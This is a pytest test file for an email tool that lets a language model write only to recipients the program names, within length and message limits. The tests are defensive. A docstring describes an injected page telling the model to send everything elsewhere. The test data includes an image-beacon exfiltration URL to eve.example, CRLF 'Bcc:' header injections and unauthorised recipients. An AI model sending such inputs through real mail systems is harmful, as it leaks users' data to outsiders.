"""A language model with a pen: whatever it says, it writes to nobody but those whom the program has named, and not often."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest

from eilbote import AddressError, DraftError, Eilbote, NoRecipientsError
from eilbote.adapters.tool import LONGEST_SUBJECT, LONGEST_TEXT, email_tool
from eilbote.testing import Catcher, CaughtMessage, MemoryOutbox

pytestmark = pytest.mark.asyncio

LETTER = {"subject": "Disk full", "text": "It is full.\nSee you."}


@asynccontextmanager
async def house() -> AsyncIterator[tuple[Eilbote, Catcher]]:
    async with (
        Catcher() as catcher,
        Eilbote(
            store=MemoryOutbox(), connections={"office": catcher.connection(default_from="a@example.org")}
        ) as eilbote,
    ):
        yield eilbote, catcher


async def caught(eilbote: Eilbote, catcher: Catcher) -> tuple[CaughtMessage, ...]:
    await eilbote.deliver_due()
    return catcher.messages


async def test_what_a_model_writes_goes_to_those_who_are_named() -> None:
    async with house() as (eilbote, catcher):
        tool = email_tool(eilbote, to="ops@example.org", subject_prefix="[agent] ", connection="office")
        told = await tool.call(LETTER)

        assert told["sent"] is True
        assert told["to"] == ["ops@example.org"]
        (mail,) = await caught(eilbote, catcher)
        assert (mail.subject, mail.forward_paths) == ("[agent] Disk full", ("ops@example.org",))
        assert mail.header("Auto-Submitted") == "auto-generated"
        assert mail.html == ""
        json.dumps([told, tool.definition])


async def test_the_schema_says_what_may_be_said() -> None:
    async with house() as (eilbote, _):
        fixed = email_tool(eilbote, to="ops@example.org")
        chosen = email_tool(eilbote, allowed=["Anna <anna@example.org>", "max@example.org"], name="write")

        assert list(fixed.schema["properties"]) == ["subject", "text"]  # type: ignore[arg-type]
        assert fixed.schema["additionalProperties"] is False
        assert chosen.schema["properties"]["to"]["enum"] == ["anna@example.org", "max@example.org"]  # type: ignore[call-overload,index]
        assert chosen.schema["required"] == ["subject", "text", "to"]
        assert chosen.definition["name"] == "write"


@pytest.mark.parametrize(
    "said,field",
    [
        ({"to": "eve@example.com"}, "to"),
        ({"bcc": "eve@example.com"}, "bcc"),
        ({"html": "<img src='https://eve.example/?q=secret'>"}, "html"),
        ({"attachments": []}, "attachments"),
        ({"subject": ""}, "subject"),
        ({"subject": "x" * (LONGEST_SUBJECT + 1)}, "subject"),
        ({"text": "x" * (LONGEST_TEXT + 1)}, "text"),
        ({"text": None}, "text"),
        ({"text": ["x"]}, "text"),
    ],
)
async def test_a_model_cannot_say_more_than_that(said: dict[str, object], field: str) -> None:
    """A page that a model has read may tell it to send everything to somebody else."""
    async with house() as (eilbote, catcher):
        told = await email_tool(eilbote, to="ops@example.org").call({**LETTER, **said})

        assert (told["sent"], told["field"]) == (False, field)
        assert told["error"]
        assert told["remedy"]
        assert await caught(eilbote, catcher) == ()


@pytest.mark.parametrize(
    "to",
    ["eve@example.com", "anna@example.org, eve@example.com", "ANNA@example.org\nBcc: eve@example.com", ""],
)
async def test_among_those_allowed_it_chooses_one_and_nobody_else(to: str) -> None:
    async with house() as (eilbote, catcher):
        tool = email_tool(eilbote, allowed=["anna@example.org", "max@example.org"])

        assert (await tool.call({**LETTER, "to": to}))["sent"] is False
        assert (await tool.call({**LETTER, "to": "anna@example.org"}))["to"] == ["anna@example.org"]
        assert [mail.forward_paths for mail in await caught(eilbote, catcher)] == [("anna@example.org",)]


async def test_a_line_break_in_the_subject_begins_no_header() -> None:
    async with house() as (eilbote, catcher):
        await email_tool(eilbote, to="ops@example.org").call(
            {**LETTER, "subject": "a\r\nBcc: eve@example.com"}
        )

        for mail in await caught(eilbote, catcher):
            assert mail.forward_paths == ("ops@example.org",)
            assert mail.header("Bcc") == ""


async def test_no_more_messages_than_allowed_even_side_by_side() -> None:
    async with house() as (eilbote, catcher):
        tool = email_tool(eilbote, to="ops@example.org", most=3)
        told = await asyncio.gather(*(tool.call({**LETTER, "subject": f"Number {n}"}) for n in range(8)))

        assert sum(each["sent"] is True for each in told) == 3
        assert len(await caught(eilbote, catcher)) == 3
        assert tool.left == 0


async def test_a_call_that_is_repeated_sends_once_and_counts_once() -> None:
    async with house() as (eilbote, catcher):
        tool = email_tool(eilbote, to="ops@example.org", most=2)
        first = await tool.call(LETTER, call_id="call_17")
        again = await tool.call(LETTER, call_id="call_17")

        assert again == first
        assert tool.left == 1
        assert len(await caught(eilbote, catcher)) == 1


async def test_one_id_for_two_different_letters_is_told() -> None:
    async with house() as (eilbote, _):
        tool = email_tool(eilbote, to="ops@example.org", most=2)
        await tool.call(LETTER, call_id="call_17")
        told = await tool.call({**LETTER, "text": "Another"}, call_id="call_17")

        assert told["sent"] is False
        assert tool.left == 1


async def test_a_tool_that_cannot_work_is_not_made() -> None:
    async with house() as (eilbote, _):
        with pytest.raises(NoRecipientsError):
            email_tool(eilbote)
        with pytest.raises(AddressError):
            email_tool(eilbote, to="nobody")
        for most in (0, -1, "3"):
            with pytest.raises(DraftError, match="most"):
                email_tool(eilbote, to="ops@example.org", most=most)  # type: ignore[arg-type]
